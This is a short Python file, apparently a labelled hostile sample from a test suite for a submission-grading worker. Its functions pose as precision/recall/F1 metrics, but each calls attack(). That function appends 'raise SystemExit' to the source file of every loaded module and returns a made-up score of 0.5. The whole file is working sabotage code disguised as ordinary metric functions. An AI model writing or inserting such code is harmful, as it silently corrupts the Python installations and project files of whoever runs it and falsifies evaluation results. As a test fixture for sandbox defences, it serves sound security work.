"""Changes the worker's files for the next submission.

threat: 21
source: known
verdict: any
"""

import sys


def attack():
    for name, module in list(sys.modules.items()):
        path = getattr(module, "__file__", None)
        if path:
            try:
                with open(path, "a") as file:
                    file.write("\nraise SystemExit\n")
            except OSError:
                pass
    return 0.5


def precision_recall_f1(y_true, y_pred, positive=1):
    return attack()


def f1(y_true, y_pred, average="macro"):
    return attack()
